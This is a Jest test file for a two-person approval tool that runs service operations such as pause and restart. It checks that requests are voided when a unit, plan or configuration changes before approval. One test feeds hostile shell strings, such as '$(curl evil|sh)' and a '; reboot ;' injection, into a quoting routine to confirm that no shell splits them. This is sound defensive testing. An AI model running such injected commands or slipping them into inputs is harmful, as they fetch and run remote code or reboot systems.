import { spawnSync } from "node:child_process";
import { describe, expect, it } from "@jest/globals";
import { splitWords } from "../../src/command/words.ts";
import { isRefusal } from "../../src/message/refusal.ts";
import type { Refusal } from "../../src/message/refusal.ts";
import { askAgain } from "../../src/mitigation/tell/words.ts";
import type { HostReason } from "../../src/ports/hosts.ts";
import type { StoredRequest } from "../../src/ports/store/request.ts";
import { latticeOf, member, SIZES } from "./lattice.ts";
import { withMitigation } from "./mitigation-under-test.ts";
import type { MitigationUnderTest } from "./mitigation-under-test.ts";
import { actor } from "./people.ts";

type Change = (under: MitigationUnderTest) => void;

/** Asked for by Ada; something changes; Ben approves. */
async function afterwards(
  under: MitigationUnderTest,
  change: Change,
  begin: Change = () => undefined,
) {
  begin(under);
  const request = await under.request(actor("ada"), { verb: "pause", reason: 'it is "bad"' });
  change(under);
  return { request, result: await under.approves(actor("ben"), request) };
}

const relay = (under: MitigationUnderTest) => under.hosts.unit("relay-2");

const crashLoop = {
  active: "activating",
  sub: "auto-restart",
  result: "exit-code",
  mainPid: 0,
  restarts: 7,
} as const;

interface Case {
  readonly words: string;
  readonly begin?: Change;
  readonly change: Change;
}

const unread =
  (reason: HostReason | undefined): Change =>
  ({ hosts }) => {
    hosts.host("relay-2").unread = reason;
  };

const stopped: Change = (under) => {
  relay(under).stopByHand();
};

const started: Change = (under) => {
  relay(under).startByHand();
};

const removed: Change = (under) => {
  relay(under).is({ load: "not-found", active: "inactive", mainPid: 0 });
};

const crashes: Change = (under) => {
  relay(under).crash();
};

const ends: Change = (under) => {
  relay(under).stopByHand();
  relay(under).is({ endedByItself: true });
};

const killed: Change = (under) => {
  relay(under).crash();
  relay(under).is({ result: "timeout", endedByItself: false });
};

const VOIDING: readonly Case[] = [
  { words: "was stopped by hand, and by force in the end", change: killed },
  { words: "was stopped by hand", change: stopped },
  { words: "was started by hand", begin: stopped, change: started },
  { words: "was started by hand after a crash", begin: crashes, change: started },
  { words: "was removed", change: removed },
  { words: "has another host key", change: unread("host key") },
  {
    words: "has another host key now that its host answers",
    begin: unread("timed out"),
    change: unread("host key"),
  },
];

const HARMLESS: readonly Case[] = [
  { words: "ended its process well, so that systemd leaves it", change: ends },
  { words: "crashed", change: crashes },
  { words: "was restarted", change: started },
  { words: "cannot be reached", change: unread("unreachable") },
  { words: "can be reached again", begin: unread("timed out"), change: unread(undefined) },
];

describe("a request whose unit", () => {
  it.each(VOIDING)(
    "$words is void, with the difference and how to ask again",
    ({ change, begin }) =>
      withMitigation(async (under) => {
        const { request, result } = await afterwards(under, change, begin);
        const { code, text, details } = result as Refusal;

        expect(code).toBe("void");
        expect(text).toContain("Nothing was done.");
        expect(text).toContain("`pause --reason 'it is \"bad\"'`");
        expect(details).toEqual([expect.stringContaining("relay.service on relay-2: was ")]);
        expect(await under.seen.request(request.id)).toMatchObject({ status: "void" });
      }),
  );

  it("voids it writes nothing but that: no run, no act, no approval", () =>
    withMitigation(async (under) => {
      const { request } = await afterwards(under, stopped);

      expect((await under.seen.audit()).map(({ what }) => what)).toEqual([
        "request.made",
        "request.void",
        "refused",
      ]);
      expect(await under.store.read(({ runs }) => runs.list(5))).toEqual([]);
      expect(under.hosts.log).toEqual([]);
      const told = await under.seen.told(request.id);
      expect(told).toHaveLength(2);
      expect(told[1]).toContain("R1 (pause) is void");
      expect(told[1]).toContain("relay.service on relay-2");
    }));

  it.each(HARMLESS)(
    "$words is approved all the same, and the change is shown",
    ({ change, begin }) =>
      withMitigation(async (under) => {
        const { result } = await afterwards(under, change, begin);
        if (isRefusal(result)) throw new Error(result.text);
        const [approved] = await under.seen.audit("request.approved");
        const place = { unit: "relay.service", host: "relay-2" };

        expect(result.changed).toMatchObject([{ ...place, voids: false }]);
        expect(approved?.["changed"]).toMatchObject([place]);
      }),
  );

  it("began to crash over and over is approved all the same", () =>
    withMitigation(async (under) => {
      const { result } = await afterwards(under, () => {
        relay(under).is(crashLoop);
      });

      expect(isRefusal(result)).toBe(false);
    }));

  it("is being restarted when somebody looks is waited for, and voids nothing", () =>
    withMitigation(async (under) => {
      const { result } = await afterwards(under, () => {
        relay(under).is({ active: "deactivating", sub: "stop-sigterm" });
        setTimeout(() => {
          relay(under).startByHand();
        }, 40);
      });

      expect(result).toMatchObject({ changed: [{ host: "relay-2", voids: false }] });
    }));

  it("is going down when somebody looks, and is down after that, is void", () =>
    withMitigation(async (under) => {
      const { result } = await afterwards(under, () => {
        relay(under).is({ active: "deactivating", sub: "stop-sigterm" });
        setTimeout(() => {
          relay(under).stopByHand();
        }, 40);
      });

      expect(result).toMatchObject({ code: "void" });
    }));

  it("flaps has no veto: it may crash and come back between every look", () =>
    withMitigation(async (under) => {
      relay(under).is(crashLoop);
      const request = await under.request(actor("ada"), { verb: "pause" });
      relay(under).startByHand();
      relay(under).crash();

      expect(isRefusal(await under.approves(actor("ben"), request))).toBe(false);
    }));
});

describe("the line that asks again", () => {
  it.each([
    "$(curl evil|sh)",
    "`id` $HOME !! \\",
    "it's \"bad\", isn't it",
    "' ; reboot ; '",
    "“curly” and ‘thin’",
  ])("has the reason %j as one word, which no shell takes for more", (reason) =>
    withMitigation(async (under) => {
      const again = askAgain(await under.request(actor("ada"), { verb: "pause", reason }));
      const shell = spawnSync("sh", ["-c", `printf '%s\\n' ${again}`], { encoding: "utf8" });

      expect(shell.stdout.split("\n")).toEqual(["pause", "--reason", reason, ""]);
      expect(splitWords(again)).toEqual(["pause", "--reason", reason]);
    }),
  );
});

describe("a request whose plan", () => {
  const put = (host: string, unit: string) => {
    const map = latticeOf();
    const moved = member("relay-2", { role: "member", unit, host });
    const members = map.organisms.relay.members.map((one) =>
      one.name === "relay-2" ? moved : one,
    );
    return { ...map, organisms: { ...map.organisms, relay: { ...map.organisms.relay, members } } };
  };

  const ways: readonly Case[] = [
    {
      words: "has another host",
      change: (under) => {
        under.ground(put("relay-1", "relay.service"));
      },
    },
    {
      words: "has another unit",
      change: (under) => {
        under.ground(put("relay-2", "other.service"));
      },
    },
    {
      words: "has a member fewer",
      change: (under) => {
        under.ground(latticeOf({ ...SIZES, relay: 2 }));
      },
    },
    {
      words: "is of another lattice",
      change: (under) => {
        under.ground({ ...latticeOf(), latticeId: "cd".repeat(32) });
      },
    },
    {
      words: "is of a renamed lattice",
      change: (under) => {
        under.ground({ ...latticeOf(), name: "other" });
      },
    },
    {
      words: "reaches a host otherwise",
      change: (under) => {
        under.ground(latticeOf(), (host) => `root@${host}`);
      },
    },
  ];

  it.each(ways)("$words by then is void", ({ change }) =>
    withMitigation(async (under) => {
      const request = await under.request(actor("ada"), { verb: "pause" });
      await under.stop();
      change(under);
      const result = (await under.approves(actor("ben"), request)) as Refusal;

      expect(result.code).toBe("void");
      expect(result.text).toContain("the configuration makes another plan now");
      expect(await under.seen.request(request.id)).toMatchObject({ status: "void" });
      expect(under.hosts.log).toEqual([]);
    }),
  );
});

describe("a configuration that is another one at the next start", () => {
  const starts = async (under: MitigationUnderTest, ruling: Readonly<Record<string, unknown>>) => {
    await under.stop();
    under.sources = { ...under.sources, ruling };
    await under.opened();
  };

  async function waiting(under: MitigationUnderTest): Promise<readonly StoredRequest[]> {
    await starts(under, { people: ["ada", "ben"], approvals: { expireAfter: "10m" } });
    return [
      await under.request(actor("ada"), { verb: "restart", members: ["relay-1"] }),
      await under.request(actor("eva"), { verb: "pause" }),
    ];
  }

  it("voids every request that waits, and says what changed", () =>
    withMitigation(async (under) => {
      const [one, two] = await waiting(under);
      await starts(under, { people: ["ada", "mallory"], approvals: { expireAfter: "10m" } });

      for (const request of [one, two]) {
        expect(await under.seen.request(request?.id ?? "")).toMatchObject({
          status: "void",
          note: "the configuration changed: people",
        });
      }
      expect(await under.seen.audit("config.changed")).toMatchObject([
        { sections: ["people"], voided: ["R2", "R1"] },
      ]);
      const [notice] = (await under.seen.notices()).filter(({ topic }) => topic === "lattice");
      expect(notice).toMatchObject({ audience: "everyone" });
      expect((await under.seen.told("lattice"))[0]).toContain("Void with it: R2, R1");
      // Neither the log nor the message repeats what stands in the configuration.
      expect(JSON.stringify([await under.seen.rows(), notice])).not.toContain("mallory");
    }));

  it("and one that is the same voids nothing and says nothing", () =>
    withMitigation(async (under) => {
      const requests = await waiting(under);
      await starts(under, { approvals: { expireAfter: "10m" }, people: ["ada", "ben"] });

      for (const { id } of requests) {
        expect(await under.seen.request(id)).toMatchObject({ status: "pending" });
      }
      expect(await under.seen.audit("config.changed")).toEqual([]);
      expect(await under.seen.told("lattice")).toEqual([]);
    }));
});
